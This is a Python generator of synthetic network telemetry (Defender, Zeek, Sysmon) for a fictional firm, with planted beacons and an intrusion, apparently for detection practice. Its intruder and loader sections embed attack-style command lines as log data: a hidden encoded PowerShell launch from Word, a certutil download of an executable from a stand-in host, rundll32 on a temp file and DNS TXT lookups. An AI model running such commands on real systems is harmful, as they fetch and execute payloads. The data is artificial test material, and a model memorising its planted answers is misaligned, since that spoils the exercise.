#!/usr/bin/env python3
"""Writes the sample telemetry beside this file. Deterministic: the same bytes on every run and machine.

    python3 samples/generate.py

samples/README.md says what is hidden in the data. Names end in .example, and addresses come from the
documentation ranges (RFC 5737, RFC 3849), so nothing here points at anybody.
"""
import csv
import json
import math
import os
import random
from datetime import datetime, timedelta, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
FIRST_DAY = datetime(2026, 3, 3, tzinfo=timezone.utc)
END = datetime(2026, 3, 5, 18, 0, tzinfo=timezone.utc)
DAYS = 3
SYSTEM32 = "C:\\Windows\\System32\\"


class Dice:
    """Draws from random() alone, whose sequence is the same in every Python 3."""

    def __init__(self, seed):
        self._random = random.Random(seed)

    def uniform(self, low, high):
        return low + (high - low) * self._random.random()

    def integer(self, low, high):
        return int(self.uniform(low, high + 1))

    def pick(self, items):
        return items[self.integer(0, len(items) - 1)]

    def pause(self, mean):
        return -mean * math.log(1 - self._random.random())


def at(day, hour, minute=0, second=0.0):
    return FIRST_DAY + timedelta(days=day, hours=hour, minutes=minute, seconds=second)


def timer(dice, start, end, period, jitter):
    """Times of a beacon: every period seconds, off by up to the given fraction."""
    time = start
    while time < end:
        yield time
        time += timedelta(seconds=period * dice.uniform(1 - jitter, 1 + jitter))


def bursts(dice, start, end, mean_pause, most):
    """Times of a person at work: bursts of connections, with pauses of any length between."""
    time = start + timedelta(seconds=dice.pause(mean_pause))
    while time < end:
        moment = time
        for _ in range(dice.integer(1, most)):
            yield moment
            moment += timedelta(seconds=dice.pause(2.5))
        time += timedelta(seconds=dice.pause(mean_pause) + 20)


# ---------------------------------------------------------------- processes and places

class Process:
    def __init__(self, name, folder, command, parent, account=None):
        self.name, self.folder, self.command, self.parent, self.account = name, folder, command, parent, account


PROGRAMS = "C:\\Program Files\\"
CHROME = Process("chrome.exe", PROGRAMS + "Google\\Chrome\\Application\\", '"chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', "chrome.exe")
EDGE = Process("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\", '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', "msedge.exe")
TEAMS = Process("ms-teams.exe", PROGRAMS + "WindowsApps\\MSTeams\\", '"ms-teams.exe" msteams:system-initiated', "explorer.exe")
OUTLOOK = Process("outlook.exe", PROGRAMS + "Microsoft Office\\root\\Office16\\", '"OUTLOOK.EXE"', "explorer.exe")
UPDATE = Process("svchost.exe", SYSTEM32, "svchost.exe -k netsvcs -p -s wuauserv", "services.exe", "system")
MONITOR = Process("harborwatch-agent.exe", PROGRAMS + "Harborwatch\\", '"harborwatch-agent.exe" --service', "services.exe", "system")
BACKUP = Process("vaultkeeper.exe", PROGRAMS + "Vaultkeeper\\", '"vaultkeeper.exe" run --profile nightly', "services.exe", "system")
SYNC = Process("foldersync.exe", PROGRAMS + "Foldersync\\", '"foldersync.exe" --watch D:\\Shares', "services.exe", "system")
INSTALLER = Process("msiexec.exe", SYSTEM32, 'msiexec.exe /i "https://packages.larkspur.example/reader.msi" /qn', "ccmexec.exe", "system")
INTUNE = Process("powershell.exe", SYSTEM32 + "WindowsPowerShell\\v1.0\\", "powershell.exe -NoProfile -File C:\\Windows\\IMECache\\detect.ps1", "IntuneManagementExtension.exe", "system")

SITES = [
    ("www.meadowlark-news.example", "198.51.100.10"), ("mail.postbridge.example", "198.51.100.11"),
    ("app.ledgerleaf.example", "198.51.100.12"), ("static.fernfall.example", "198.51.100.13"),
    ("maps.wayfinder.example", "198.51.100.14"), ("video.tinbox.example", "198.51.100.15"),
    ("www.quillshop.example", "2001:db8:10::16"), ("fonts.fernfall.example", "::ffff:198.51.100.17"),
]
MICROSOFT = [
    ("teams.microsoft.com", "192.0.2.11"), ("outlook.office365.com", "192.0.2.12"),
    ("fe3cr.delivery.mp.microsoft.com", "192.0.2.13"), ("graph.microsoft.com", "192.0.2.14"),
]
MONITOR_SITE = ("ingest.harborwatch.example", "198.51.100.20")


class Device:
    def __init__(self, name, ip, user):
        self.name, self.ip, self.user = name, ip, user
        self.id = format(abs(hash_text(name)), "040x")


def hash_text(text):
    value = 0xcbf29ce484222325
    for byte in text.encode():
        value = ((value ^ byte) * 0x100000001b3) & 0xffffffffffffffff
    return value


WORKSTATIONS = [
    Device("lt-0%d.larkspur.example" % i, "10.20.1.%d" % (20 + i), user)
    for i, user in enumerate(["a.lindqvist", "b.moreau", "c.haddad", "d.novak", "e.tanaka", "m.okafor"], 2)
]
SERVERS = [Device("srv-file-01.larkspur.example", "10.20.0.11", "system"), Device("srv-app-01.larkspur.example", "10.20.0.12", "system"), Device("srv-db-01.larkspur.example", "10.20.0.13", "system")]


# ---------------------------------------------------------------- Defender

COLUMNS = [
    "Timestamp", "DeviceId", "DeviceName", "ActionType", "RemoteIP", "RemotePort", "RemoteUrl", "LocalIP", "LocalPort", "Protocol",
    "RemoteIPType", "InitiatingProcessFileName", "InitiatingProcessFolderPath", "InitiatingProcessId", "InitiatingProcessCommandLine",
    "InitiatingProcessParentFileName", "InitiatingProcessAccountDomain", "InitiatingProcessAccountName", "ReportId", "AdditionalFields",
]


def ip_type(ip):
    if ip.startswith("10."):
        return "Private"
    return "FourToSixMapping" if ip.startswith("::ffff:") else "Private" if ip.startswith("fd") else "Public"


def connection(dice, time, device, process, place, port, action="ConnectionSuccess", extra="", protocol="Tcp"):
    url, ip = place
    system = process.account == "system"
    return {
        "Timestamp": time.strftime("%Y-%m-%dT%H:%M:%S.") + "%06d" % time.microsecond + "%dZ" % dice.integer(0, 9),
        "DeviceId": device.id, "DeviceName": device.name, "ActionType": action,
        "RemoteIP": ip, "RemotePort": port, "RemoteUrl": url, "LocalIP": device.ip, "LocalPort": dice.integer(49152, 65535),
        "Protocol": protocol, "RemoteIPType": ip_type(ip),
        "InitiatingProcessFileName": process.name, "InitiatingProcessFolderPath": (process.folder + process.name).lower(),
        "InitiatingProcessId": 1000 + hash_text(device.name + process.command) % 9000, "InitiatingProcessCommandLine": process.command,
        "InitiatingProcessParentFileName": process.parent,
        "InitiatingProcessAccountDomain": "nt authority" if system else "larkspur",
        "InitiatingProcessAccountName": "system" if system else device.user,
        "ReportId": dice.integer(1000, 99999), "AdditionalFields": extra,
    }


def heartbeat(dice, device, start, end):
    return [connection(dice, t, device, MONITOR, MONITOR_SITE, 443) for t in timer(dice, start, end, 600, 0.01)]


def office_day(dice, device, day):
    start, end = at(day, 8, dice.integer(0, 40)), min(at(day, 17, dice.integer(10, 55)), END)
    rows = []
    for time in bursts(dice, start, end, 1500, 4):
        rows.append(connection(dice, time, device, dice.pick([CHROME, CHROME, EDGE]), dice.pick(SITES), 443))
    for time in bursts(dice, start, end, 3600, 2):
        rows.append(connection(dice, time, device, TEAMS, MICROSOFT[0], 443))
    for time in bursts(dice, start, end, 3600, 2):
        rows.append(connection(dice, time, device, OUTLOOK, MICROSOFT[1], 443))
    for time in bursts(dice, start, end, 14000, 4):
        rows.append(connection(dice, time, device, UPDATE, MICROSOFT[2], 443))
    rows.append(connection(dice, at(day, 12, dice.integer(0, 59)), device, INTUNE, MICROSOFT[3], 443))
    return rows + heartbeat(dice, device, start, end)


def workstations():
    dice = Dice(20260303)
    rows = [row for day in range(DAYS) for device in WORKSTATIONS for row in office_day(dice, device, day)]
    for device in WORKSTATIONS[:3]:
        rows.append(connection(dice, at(2, 11, dice.integer(0, 50)), device, INSTALLER, ("packages.larkspur.example", "198.51.100.30"), 443))
    return sorted(rows + implant(dice) + loader(dice) + intruder(dice), key=lambda r: r["Timestamp"])


def implant(dice):
    """application-layer-beacon: a process in a user's profile, every three minutes, 15 % jitter."""
    device = WORKSTATIONS[5]
    process = Process("syncsvc.exe", "C:\\Users\\m.okafor\\AppData\\Roaming\\SyncSvc\\", '"C:\\Users\\m.okafor\\AppData\\Roaming\\SyncSvc\\syncsvc.exe"', "explorer.exe")
    return [connection(dice, t, device, process, ("status.brightparcel.example", "203.0.113.24"), 443) for t in timer(dice, at(2, 9, 12), at(2, 17, 50), 180, 0.15)]


def loader(dice):
    """encrypted-channel: rundll32.exe under wscript.exe, to an address without a name, every five minutes, 20 % jitter."""
    device = WORKSTATIONS[1]
    process = Process("rundll32.exe", SYSTEM32, "rundll32.exe C:\\Users\\b.moreau\\AppData\\Local\\Temp\\inv8841.dat,Start", "wscript.exe")
    return [connection(dice, t, device, process, ("", "203.0.113.45"), 8443) for t in timer(dice, at(2, 10, 5), at(2, 16, 40), 300, 0.2)]


def intruder(dice):
    """unexpected-process-on-common-port: a macro's PowerShell, a download, an injected notepad, DNS by hand."""
    device = WORKSTATIONS[3]
    shell = Process("powershell.exe", SYSTEM32 + "WindowsPowerShell\\v1.0\\", "powershell.exe -nop -w hidden -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==", "winword.exe")
    download = Process("certutil.exe", SYSTEM32, "certutil.exe -urlcache -split -f http://cdn.quietharbor.example/t.txt t.exe", "powershell.exe")
    notepad = Process("notepad.exe", SYSTEM32, "notepad.exe", "powershell.exe")
    lookup = Process("nslookup.exe", SYSTEM32, "nslookup.exe -type=TXT k3jd9s.t.quietharbor.example 203.0.113.53", "cmd.exe")
    rows = [connection(dice, at(2, 14, 2, s), device, shell, ("", "203.0.113.61"), 443) for s in (11.2, 12.9, 48.0)]
    rows.append(connection(dice, at(2, 14, 3, 5.5), device, download, ("cdn.quietharbor.example", "203.0.113.62"), 80))
    rows += [connection(dice, at(2, 14, 20 + m, dice.uniform(0, 59)), device, notepad, ("", "203.0.113.61"), 443) for m in (0, 3, 4, 17, 31)]
    return rows + [connection(dice, at(2, 15, 1, 3.0 * i), device, lookup, ("", "203.0.113.53"), 53, protocol="Udp") for i in range(12)]


def report(dice, time, device, process, place, port, count):
    extra = json.dumps({"uniqueEventsAggregated": count, "confidence": "Known"}, separators=(",", ":"))
    return connection(dice, time, device, process, place, port, "ConnectionSuccessAggregatedReport", extra)


def servers():
    """aggregated-report-beacon: dllhost.exe, 58 to 62 connections in every hour. Beside it busy and quiet services."""
    dice = Dice(20260304)
    app = Process("ledgerleaf-connector.exe", PROGRAMS + "Ledgerleaf\\", '"ledgerleaf-connector.exe"', "services.exe", "system")
    surrogate = Process("dllhost.exe", SYSTEM32, "dllhost.exe /Processid:{3AD05575-8857-4850-9277-11B85BDB8E09}", "svchost.exe", "system")
    rows = []
    for device in SERVERS:
        rows += heartbeat(dice, device, at(0, 0, dice.integer(0, 9)), END)
        for hour in range(DAYS * 24 - 6):
            time = at(0, hour, dice.integer(1, 8))
            busy = 1 + 40 * max(0.0, math.sin((hour % 24 - 6) / 12 * math.pi))
            rows.append(report(dice, time, device, UPDATE, MICROSOFT[2], 443, 1 + int(dice.pause(4))))
            if device is SERVERS[1]:
                rows.append(report(dice, time, device, app, SITES[2], 443, 1 + int(dice.uniform(0.2, 6) * busy)))
            if device is SERVERS[0] and hour >= 8:
                rows.append(report(dice, time, device, surrogate, ("", "203.0.113.90"), 443, dice.integer(58, 62)))
    for time in timer(dice, at(2, 0), END, 900, 0.005):
        rows.append(connection(dice, time, SERVERS[0], BACKUP, ("", "10.20.0.40"), 443))
    for time in timer(dice, at(2, 6), END, 300, 0.005):
        rows.append(connection(dice, time, SERVERS[0], SYNC, ("", "fd12:3456:789a:1::40"), 443))
    return sorted(rows, key=lambda r: r["Timestamp"])


# ---------------------------------------------------------------- Zeek, a branch office

ZEEK = [
    ("ts", "time"), ("uid", "string"), ("id.orig_h", "addr"), ("id.orig_p", "port"), ("id.resp_h", "addr"), ("id.resp_p", "port"),
    ("proto", "enum"), ("service", "string"), ("duration", "interval"), ("orig_bytes", "count"), ("resp_bytes", "count"),
    ("conn_state", "string"), ("local_orig", "bool"), ("local_resp", "bool"), ("missed_bytes", "count"), ("history", "string"),
    ("orig_pkts", "count"), ("orig_ip_bytes", "count"), ("resp_pkts", "count"), ("resp_ip_bytes", "count"), ("tunnel_parents", "set[string]"),
]
LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def flow(dice, time, source, target, port, proto, service, sent, received, state="SF"):
    uid = "C" + "".join(dice.pick(LETTERS) for _ in range(17))
    epoch = "%d.%06d" % (int(time.timestamp()), time.microsecond)
    local = "T" if target.startswith("10.") else "F"
    history = "Dd" if proto == "udp" else "ShADadFf" if state == "SF" else "S"
    duration = "%.6f" % dice.uniform(0.05, 2.5) if state == "SF" else "-"
    sent, received = (sent, received) if state == "SF" else ("-", "-")
    packets = [8, 900, 7, 1900] if state == "SF" else [1, 60, 0, 0]
    return (time, [epoch, uid, source, dice.integer(40000, 65535), target, port, proto, service, duration, sent, received, state, "T", local, 0, history, *packets, "-"])


def branch():
    """adversary-server: a camera calls a server every ten minutes with 30 % jitter. Beside it people, DNS and NTP."""
    dice = Dice(20260305)
    flows = []
    for host in range(11, 17):
        source = "10.40.1.%d" % host
        for day in range(DAYS):
            start, end = at(day, 8, dice.integer(0, 30)), min(at(day, 17, 30), END)
            for time in bursts(dice, start, end, 1200, 4):
                site = dice.pick(SITES[:6])[1]
                flows.append(flow(dice, time - timedelta(seconds=0.05), source, "10.40.0.2", 53, "udp", "dns", 40, 90))
                flows.append(flow(dice, time, source, site, 443, "tcp", "ssl", dice.integer(600, 4000), dice.integer(2000, 90000), "SF" if dice.uniform(0, 1) < 0.97 else "S0"))
        for time in timer(dice, at(2, 0, dice.integer(0, 16)), END, 1024, 0.002):
            flows.append(flow(dice, time, source, "198.51.100.123", 123, "udp", "ntp", 48, 48))
    for time in timer(dice, at(1, 18, 30), at(2, 17, 52), 600, 0.3):
        flows.append(flow(dice, time, "10.40.2.31", "192.0.2.77", 443, "tcp", "ssl", dice.integer(700, 760), dice.integer(1200, 1300)))
    flows.sort(key=lambda f: f[0])
    lines = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", "#path\tconn", "#open\t2026-03-05-18-00-00"]
    lines.append("#fields\t" + "\t".join(name for name, _ in ZEEK))
    lines.append("#types\t" + "\t".join(kind for _, kind in ZEEK))
    lines += ["\t".join(str(v) for v in values) for _, values in flows]
    return lines + ["#close\t2026-03-05-18-00-00"]


# ---------------------------------------------------------------- Sysmon, a kiosk without Defender

def sysmon(dice, record, time, image, pid, user, target, port, name="-", initiated=True):
    local = time - timedelta(hours=5)
    utc = time.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (time.microsecond // 1000)
    return {
        "EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon", "Version": 5, "Task": 3,
        "RecordNumber": record, "Hostname": "KIOSK-2.larkspur.example", "EventTime": local.strftime("%Y-%m-%d %H:%M:%S"),
        "@timestamp": time.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (time.microsecond // 1000), "UtcTime": utc, "RuleName": "-",
        "ProcessGuid": "{7c2e51a0-%04x-69a8-0000-001000000000}" % (pid & 0xffff), "ProcessId": str(pid), "Image": image, "User": user,
        "Protocol": "tcp", "Initiated": "true" if initiated else "false", "SourceIsIpv6": "false", "SourceIp": "10.20.3.7" if initiated else target,
        "SourceHostname": "-", "SourcePort": str(dice.integer(49152, 65535)), "SourcePortName": "-", "DestinationIsIpv6": "false",
        "DestinationIp": target if initiated else "10.20.3.7", "DestinationHostname": name, "DestinationPort": str(port), "DestinationPortName": "-",
    }


def kiosk():
    """All but aggregated-report-beacon: regsvr32.exe fetches a scriptlet, then PowerShell calls every minute."""
    dice = Dice(20260306)
    user = "KIOSK-2\\visitor"
    events = [(t, PROGRAMS + "Google\\Chrome\\Application\\chrome.exe", 4120, user, *reversed(dice.pick(SITES[:6])), 443, True) for day in range(DAYS) for t in bursts(dice, at(day, 9), min(at(day, 17), END), 1800, 4)]
    events += [(t, SYSTEM32 + "svchost.exe", 1212, "NT AUTHORITY\\SYSTEM", "10.20.0.12", "-", 3389, False) for t in (at(0, 9, 30), at(2, 9, 5))]
    events.append((at(2, 13, 40, 7.25), SYSTEM32 + "regsvr32.exe", 6044, user, "203.0.113.140", "-", 80, True))
    for time in timer(dice, at(2, 13, 40, 21), at(2, 17, 0), 60, 0.08):
        events.append((time, SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe", 6120, user, "203.0.113.140", "-", 443, True))
    events.sort(key=lambda e: e[0])
    return [sysmon(dice, 5000 + i, t, image, pid, who, ip, port, name, initiated) for i, (t, image, pid, who, ip, name, port, initiated) in enumerate(events)]


# ---------------------------------------------------------------- files

def write(path, lines):
    full = os.path.join(HERE, *path.split("/"))
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "w", encoding="utf-8", newline="\n") as file:
        file.writelines(line + "\n" for line in lines)


def main():
    write("defender/workstations.ndjson", (json.dumps({k: v for k, v in row.items() if v != ""}, separators=(",", ":")) for row in workstations()))
    full = os.path.join(HERE, "defender", "servers.csv")
    with open(full, "w", encoding="utf-8", newline="") as file:
        table = csv.DictWriter(file, COLUMNS, lineterminator="\n")
        table.writeheader()
        table.writerows(servers())
    write("zeek/conn.log", branch())
    write("sysmon/kiosk.json", (json.dumps(event, separators=(",", ":")) for event in kiosk()))


if __name__ == "__main__":
    main()
